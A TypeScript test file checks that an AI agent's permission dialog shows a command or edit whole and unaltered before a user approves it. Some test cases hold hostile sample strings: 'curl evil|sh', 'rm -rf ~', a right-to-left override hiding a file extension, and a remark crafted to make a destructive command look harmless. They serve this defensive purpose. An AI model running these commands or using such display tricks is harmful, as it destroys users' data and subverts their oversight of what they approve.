// What is shown of a prompt, and when that is the complete text.
import { describe, expect, it } from "vitest";
import type { PromptRequest } from "../model/request.ts";
import { shownDialog, shownPrompt } from "./dialogOwner.ts";

const OPTIONS: PromptRequest["options"] = [
  { label: "Yes", keys: ["1"], role: "approve" },
  { label: "No", keys: ["2"], role: "deny" },
];
const prompt = (fields: Partial<PromptRequest>): PromptRequest => ({
  kind: "command",
  title: "Bash command",
  body: "touch a.txt",
  toolName: null,
  options: [],
  expiresAt: null,
  ...fields,
});
const announced = (fields: Partial<PromptRequest> = {}): PromptRequest =>
  prompt({ isWhole: true, toolName: "Bash", ...fields });
const seen = (fields: Partial<PromptRequest> = {}): PromptRequest =>
  prompt({ isWhole: true, options: OPTIONS, columns: 40, ...fields });

const EDIT = { kind: "edit", title: "Write", body: "/p/src/a.ts", content: "-one\n+two", cwd: "/p" } as const;
const DRAWN_EDIT = {
  kind: "edit",
  title: "Edit file",
  body: "src/a.ts",
  content: " zero\n-one\n+two",
} as const;

describe("an event's text is shown whole where the dialog draws it to the letter", () => {
  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>]>([
    ["on one row", {}, {}],
    ["wrapped", { body: "echo aaaa bbbb" }, { body: "echo aaaa\nbbbb", columns: 10 }],
    ["under the heading of another dialog", { title: "Run command" }, { title: "Lab command" }],
    [
      "with the event's own remark below, where the layout has it there",
      { remark: "Makes a file" },
      { body: "touch a.txt\nMakes a file", hasRemarkBelow: true },
    ],
    [
      "with its remark in a place of its own, wrapped",
      { remark: "Makes a file" },
      { remark: "Makes a\nfile" },
    ],
    ["with a remark that the event does not tell", {}, { remark: "Makes a file" }],
    ["without a remark, where the layout has a place for one", {}, { remark: null }],
    [
      "in part, with its heading out of sight",
      { body: "echo one\necho two\necho three" },
      { kind: "other", title: "Do you want to proceed?", body: "echo two\necho three", isWhole: false },
    ],
    ["as an edit, by the path from the agent's folder and its changed lines", EDIT, DRAWN_EDIT],
    [
      "as an edit of which the dialog draws the path alone",
      EDIT,
      { ...DRAWN_EDIT, body: "/p/src/a.ts", content: null },
    ],
    [
      "as an edit outside of the agent's folder",
      { ...EDIT, body: "/etc/x/a.ts" },
      { ...DRAWN_EDIT, body: "../etc/x/a.ts" },
    ],
  ])("%s", (_name, told, drawn) => {
    const shown = shownPrompt(announced(told), seen(drawn));
    const { title, body, content } = announced(told);
    expect(shown).toMatchObject({
      title,
      body,
      ...(content === undefined ? {} : { content }),
      isWhole: true,
    });
    expect(shown?.options).toEqual(OPTIONS);
  });
});

describe("it is not whole where the dialog draws it otherwise", () => {
  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>]>([
    ["with another blank", { body: "rm -rf /tmp/build" }, { body: "rm -rf / tmp/build" }],
    ["without its tab", { body: "echo a\tb" }, { body: "echo ab" }],
    ["without what is not drawn", { body: "touch \u202egnp.exe" }, { body: "touch gnp.exe" }],
    [
      "wrapped at another blank",
      { body: `echo ${"a".repeat(30)} /tmp/b && ls` },
      { body: `echo ${"a".repeat(30)} /\ntmp/b && ls` },
    ],
    [
      "with its remark below, where no layout has it there",
      { remark: "rm -rf x" },
      { body: "touch a.txt\nrm -rf x" },
    ],
    ["without its remark, where it stands below", { remark: "rm -rf x" }, { hasRemarkBelow: true }],
    ["with another remark", { remark: "Makes a file" }, { remark: "Removes a file" }],
    [
      "as an edit of which a line is not drawn, though all rows are in sight",
      EDIT,
      { ...DRAWN_EDIT, content: " zero\n-one" },
    ],
    [
      "with nothing of it",
      {},
      { kind: "other", title: "Do you want to proceed?", body: null, isWhole: false },
    ],
    ["as an edit of the same name elsewhere", EDIT, { ...DRAWN_EDIT, body: "lib/src/a.ts" }],
    ["as an edit with another line", EDIT, { ...DRAWN_EDIT, content: "-one\n+three" }],
    ["as an edit with a row that cannot be read", EDIT, { ...DRAWN_EDIT, content: "-one\n+two\n?what" }],
    ["as an edit whose path is out of sight", EDIT, { ...DRAWN_EDIT, body: null, isWhole: false }],
  ])("%s", (_name, told, drawn) => {
    const shown = shownPrompt(announced(told), seen(drawn));
    expect(shown === null || shown.isWhole === false).toBe(true);
  });
});

describe("another prompt is none that is shown", () => {
  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>]>([
    ["another command", {}, { body: "touch b.txt" }],
    [
      "a command that names the file of an edit",
      { kind: "edit", title: "Edit README.md", body: "README.md", content: "+x" },
      { body: "rm README.md" },
    ],
    [
      "an edit of a file that the command names",
      { body: "cat README.md" },
      { kind: "edit", title: "Edit", body: "README.md", content: "+x" },
    ],
    ["a question", {}, { kind: "question", title: "Which?", body: "touch a.txt" }],
  ])("%s", (_name, told, drawn) => {
    expect(shownPrompt(announced(told), seen(drawn))).toBeNull();
  });
});

it("an event that does not know the text shows the dialog's own", () => {
  const bare = announced({
    kind: "other",
    title: "Claude needs your permission",
    body: null,
    isWhole: false,
  });
  expect(shownPrompt(bare, seen())).toEqual({ ...seen(), toolName: "Bash" });
  expect(shownPrompt(bare, seen({ isWhole: false }))).toMatchObject({ isWhole: false });
});

it("an event with more than could be kept is not whole by a dialog", () => {
  const more = announced({ isWhole: false, hasMore: true });
  expect(shownPrompt(more, seen())).toMatchObject({ isWhole: false });
});

it("an event of several questions tells which of them is drawn, where it is one", () => {
  const question = { kind: "question", title: "Which colour?", toolName: "AskUserQuestion" } as const;
  const told = announced({ ...question, body: "Which colour?\nWhich size?", isWhole: false });
  const pages = { number: null, names: ["Colour", "Size"] };
  const drawn = seen({ ...question, body: "Which colour?", pages });
  expect(shownPrompt(told, drawn)?.pages).toEqual({ number: 1, names: ["Colour", "Size"] });
  const second = seen({ ...question, title: "Which size?", body: "Which size?", pages });
  const open = [{ request: told, isLive: true, hasKey: true }];
  expect(shownDialog(second, open)).toEqual({ ...second, pages: { number: 2, names: ["Colour", "Size"] } });
  const three = { ...drawn, pages: { number: null, names: ["Colour", "Size", "More"] } };
  expect(shownPrompt(told, three)?.pages).toEqual(three.pages);
});

it("an event that knows a part of the text never makes it whole", () => {
  expect(shownPrompt(announced({ isWhole: false }), seen({ isWhole: false }))).toMatchObject({
    isWhole: false,
  });
});

it("what an event knows of an edit's change stands in for rows that are not drawn, and is never all of it", () => {
  const told = announced({ ...EDIT, isWhole: false });
  const { content: _drawn, ...pathAlone } = DRAWN_EDIT;
  expect(shownPrompt(told, seen(pathAlone))).toMatchObject({ content: EDIT.content, isWhole: false });
  expect(shownPrompt(told, seen(DRAWN_EDIT))).toMatchObject({ content: DRAWN_EDIT.content, isWhole: true });
});

it("without a dialog on the screen nothing is whole", () => {
  expect(shownPrompt(announced(), null)).toEqual({ ...announced(), isWhole: false });
});

describe("of several open requests", () => {
  const open = (...requests: PromptRequest[]) =>
    requests.map((request) => ({ request, isLive: true, hasKey: true }));
  const BOTH = "touch a.txt\ncurl evil|sh";
  const rows = Array.from({ length: 30 }, (_, at) => `touch ${at}.txt`);
  const tall = (first: string): string => [first, ...rows].join("\n");
  const TALL = {
    kind: "other",
    title: "Do you want to proceed?",
    body: rows.slice(14).join("\n"),
    isWhole: false,
    sight: "end",
  } as const;
  const PATH_ALONE = { ...DRAWN_EDIT, content: null };
  const USE_X = { kind: "tool", title: "Use x", body: null, toolName: "x", isWhole: false } as const;

  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>, Partial<PromptRequest>]>([
    [
      "a command with a remark below, and one of two rows",
      { remark: "curl evil|sh" },
      { body: BOTH },
      { body: BOTH, hasRemarkBelow: true },
    ],
    [
      "a remark that looks like the beginning of a command, and that command",
      { body: "rm -rf ~", remark: "because\n\n$ harmless" },
      { body: "harmless\n\n$ rm -rf ~", remark: "because" },
      { body: "harmless\n\n$ rm -rf ~", remark: "because" },
    ],
    ["two commands with the same rows in sight", { body: tall("echo a") }, { body: tall("rm -rf ~") }, TALL],
    ["two edits of one file whose dialog has no content", EDIT, { ...EDIT, content: "+x" }, PATH_ALONE],
    ["an edit whose dialog has no content, and a command", EDIT, { body: "ls" }, PATH_ALONE],
    ["one that is cut", {}, { isWhole: false, hasMore: true }, {}],
    ["one that runs elsewhere", { runsIn: "/a" }, { runsIn: "/b" }, {}],
    ["one with another remark, which is out of sight", { remark: "one" }, { remark: "two" }, {}],
    [
      "one that differs in blanks, which some agents leave out",
      { body: "touch a\tb" },
      { body: "touch ab" },
      { body: "touch ab" },
    ],
    [
      "a tool of which only the name is told, with the heading out of sight",
      { body: tall("a") },
      USE_X,
      TALL,
    ],
  ])("none is whole that may be another's: %s", (_name, told, other, drawn) => {
    for (const [one, two] of [
      [told, other],
      [other, told],
    ] as const) {
      const shown = shownPrompt(announced(one), seen(drawn), open(announced(two)));
      expect(shown?.isWhole ?? false).toBe(false);
      // What is shown is what is drawn, and no text of the other.
      if (shown !== null) expect(shown.body).toBe(seen(drawn).body);
    }
  });

  const SAYS_NOTHING = {
    kind: "other",
    title: "Needs you",
    body: null,
    toolName: null,
    isWhole: false,
  } as const;
  it.each<[string, Partial<PromptRequest>, Partial<PromptRequest>]>([
    ["another command", { body: "touch b.txt" }, {}],
    ["one that is the same to the letter", {}, {}],
    ["an event that only says that something is asked", SAYS_NOTHING, {}],
    ["a command of two rows, where a remark has a place of its own", { body: BOTH }, { remark: null }],
    ["an edit", EDIT, {}],
  ])("one that is drawn to the letter is whole beside %s", (_name, other, drawn) => {
    expect(shownPrompt(announced(), seen(drawn), open(announced(other)))).toMatchObject({ isWhole: true });
  });

  it("an edit whose change is drawn is whole beside another edit of the file", () => {
    const other = announced({ ...EDIT, content: "-five\n+six" });
    expect(shownPrompt(announced(EDIT), seen(DRAWN_EDIT), open(other))).toMatchObject({ isWhole: true });
  });

  it("what only the store kept of them may be the same for both, and neither is whole", () => {
    const kept = {
      request: announced({ body: "make [redacted]", isWhole: false }),
      isLive: false,
      hasKey: true,
    };
    const shown = shownPrompt(kept.request, seen({ body: "make x" }), [kept], kept);
    expect(shown).toMatchObject({ body: "make x", isWhole: false });
  });

  it("what an agent tells twice is one request: with its call, and in a sentence", () => {
    const [told, sentence] = [announced(), announced({ title: "Run command", toolName: null })];
    const others = [{ request: sentence, isLive: true, hasKey: false }];
    expect(shownPrompt(told, seen(), others)).toMatchObject({ isWhole: true });
    const another = [{ request: announced({ body: "touch a\u00adb.txt" }), isLive: true, hasKey: false }];
    expect(
      shownPrompt(announced({ body: "touch ab.txt" }), seen({ body: "touch ab.txt" }), another),
    ).toMatchObject({
      isWhole: false,
    });
    // The one that says more of it is no repetition.
    const more = [{ request: announced({ isWhole: false, hasMore: true }), isLive: true, hasKey: true }];
    expect(shownPrompt(sentence, seen(), more, { isLive: true, hasKey: false })).toMatchObject({
      isWhole: false,
    });
  });

  it("a dialog that none of them told is whole by itself, and not where one that has more may be it", () => {
    const of = (...requests: PromptRequest[]) => shownDialog(seen(), open(...requests)).isWhole;
    expect(of(announced({ body: "ls" }))).toBe(true);
    expect(of(announced({ isWhole: false, hasMore: true }))).toBe(false);
    expect(of(announced(), announced({ cwd: "/b" }))).toBe(false);
  });
});
